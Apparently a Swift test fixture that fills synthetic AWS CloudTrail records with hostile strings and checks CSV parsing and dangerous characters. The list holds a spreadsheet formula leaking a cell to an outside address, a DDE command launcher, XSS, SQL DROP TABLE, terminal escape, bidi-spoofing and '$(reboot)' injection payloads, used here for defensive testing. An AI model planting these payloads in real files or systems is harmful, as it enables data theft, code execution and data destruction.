import Foundation

/// A log whose every text somebody chose to do harm with.
enum HostileRecords {
  static let texts = [
    "=HYPERLINK(\"http://192.0.2.66/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1",
    "  =1", "＝1", "<script>alert(1)</script>", "</style><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)", "'; DROP TABLE events; --", "\u{1B}]0;owned\u{07}\u{1B}[2J",
    "user/\u{202E}ecila\u{2066}", "a\u{0}b\u{7F}c\u{85}d\u{2028}e", "line\r\nanother,\"cell\"",
    "x\u{FEFF}\u{200B}", "東京 🦉", "\\", "%s%n", "$(reboot)", "n0 -> n1; \" ]",
    String(repeating: "long ", count: 400),
  ]

  /// One record for each text, with the text in every place that a caller or a service fills.
  /// - Parameter areRefused: whether the calls failed, with the text as the error; else rules find something.
  static func json(areRefused: Bool = true) throws -> Data {
    let records = texts.enumerated().map { number, text -> [String: Any] in
      [
        "eventVersion": "1.10", "eventTime": "2026-03-04T10:00:\(10 + number)Z",
        "userIdentity": [
          "type": "IAMUser", "principalId": "AIDA\(number)\(text)",
          "arn": "arn:aws:iam::111122223333:user/\(text)", "accountId": "111122223333",
          "accessKeyId": text.isEmpty ? "x" : text, "userName": text,
        ],
        "eventSource": "iam.amazonaws.com", "eventName": number % 2 == 0 ? "CreateUser" : text,
        "awsRegion": text, "sourceIPAddress": text, "userAgent": text,
        "errorCode": areRefused ? text : NSNull(), "errorMessage": areRefused ? text : NSNull(),
        "requestParameters": ["userName": text, "bucketName": text],
        "responseElements": ["user": ["arn": "arn:aws:iam::111122223333:user/\(text)"]],
        "eventID": "id-\(number)-\(text)", "requestID": text, "readOnly": false,
        "eventType": "AwsApiCall", "managementEvent": true, "recipientAccountId": text,
        "eventCategory": "Management",
      ]
    }
    return try JSONSerialization.data(withJSONObject: ["Records": records])
  }

  /// The characters of a text that act on a terminal or on whoever reads it.
  static func harmful(in text: String) -> [Unicode.Scalar] {
    text.unicodeScalars.filter { scalar in
      scalar != "\n"
        && (scalar.value < 0x20 || (0x7F...0x9F).contains(scalar.value)
          || scalar.properties.isBidiControl
          || [0x200B, 0x2028, 0x2029, 0xFEFF].contains(scalar.value))
    }
  }

  /// The cells of RFC 4180 text, row by row.
  static func cells(ofCSV text: String) -> [[String]] {
    var rows: [[String]] = []
    var row: [String] = []
    var cell = String.UnicodeScalarView()
    var isQuoted = false
    let scalars = Array(text.unicodeScalars)
    var position = 0
    while position < scalars.count {
      let scalar = scalars[position]
      position += 1
      if isQuoted {
        guard scalar == "\"" else {
          cell.append(scalar)
          continue
        }
        if position < scalars.count, scalars[position] == "\"" {
          cell.append(scalar)
          position += 1
        } else {
          isQuoted = false
        }
      } else if scalar == "\"" {
        isQuoted = true
      } else if scalar == "," || scalar == "\n" {
        row.append(String(cell))
        cell = String.UnicodeScalarView()
        if scalar == "\n" {
          rows.append(row)
          row = []
        }
      } else if scalar != "\r" {
        cell.append(scalar)
      }
    }
    return rows
  }
}
